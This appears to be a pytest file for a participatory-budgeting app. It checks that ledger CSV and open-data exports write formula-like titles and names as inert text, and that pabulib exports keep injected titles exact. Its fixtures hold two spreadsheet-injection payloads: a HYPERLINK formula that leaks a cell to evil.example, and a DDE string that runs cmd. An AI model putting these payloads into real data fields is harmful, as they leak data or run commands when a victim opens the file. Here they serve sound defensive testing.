"""The ledger CSV and the open-data zip open in a spreadsheet without running anything a
participant typed; the pabulib file keeps every title exactly and still recounts."""

import csv
import io
import zipfile

from django.urls import reverse

import pytest

from budgeting.counting.pabulib import election_from_pabulib, pabulib_read
from budgeting.exchange import process_to_pabulib
from budgeting.proposals.models import Project

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(funded, team):
    """The funded skate park renamed to a formula, its champion named like one."""
    Project.objects.filter(pk=team.project_id).update(title=HYPERLINK)
    team.champion.first_name, team.champion.last_name = DDE, ""
    team.champion.save()
    return funded


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_no_live_formula(rows: list[dict]) -> None:
    for row in rows:
        for value in row.values():
            if value and value[0] in "=+-@\t\r":
                # only a plain number may start with a minus sign
                float(value)


def test_the_ledger_csv_writes_formula_titles_and_names_as_text(hostile, client):
    response = client.get(reverse("budgeting:ledger_csv", kwargs={"slug": hostile.slug}))

    rows = _rows(response.getvalue().decode("utf-8-sig"))
    _assert_no_live_formula(rows)
    skate = next(row for row in rows if "HYPERLINK" in row["project"])
    assert skate["project"] == "'" + HYPERLINK
    assert skate["champion"] == "'" + DDE
    pool = next(row for row in rows if row["project"] == "pool")
    assert pool["amount"] == "10000.00"  # amounts stay numbers


def test_the_ledger_in_the_open_data_zip_writes_formulas_as_text(hostile, client):
    response = client.get(reverse("budgeting:open_data", kwargs={"slug": hostile.slug}))

    archive = zipfile.ZipFile(io.BytesIO(response.content))
    csv_names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert csv_names == ["ledger.csv"]
    for name in csv_names:
        rows = _rows(archive.read(name).decode("utf-8-sig"))
        _assert_no_live_formula(rows)
        assert any(row["project"] == "'" + HYPERLINK for row in rows)


def test_the_pabulib_file_keeps_hostile_titles_exactly_and_recounts(hostile):
    titles = {
        "Trees": 'Trees; "oaks"\nVOTES\nv1;p1',
        "Benches": "PROJECTS",
    }
    for old, new in titles.items():
        Project.objects.filter(process=hostile, title=old).update(title=new)
    hostile.title = "META\nbudget;1"
    hostile.save()

    pb = pabulib_read(process_to_pabulib(hostile))

    assert pb.meta["description"] == "META budget;1"
    assert sorted(record["name"] for record in pb.projects) == sorted(
        [HYPERLINK, 'Trees; "oaks" VOTES v1;p1', "PROJECTS"]
    )
    assert len(pb.votes) == 3
    counted = election_from_pabulib(pb)
    assert sorted(counted.official or ()) == sorted(
        record["project_id"] for record in pb.projects if record["name"] != "PROJECTS"
    )
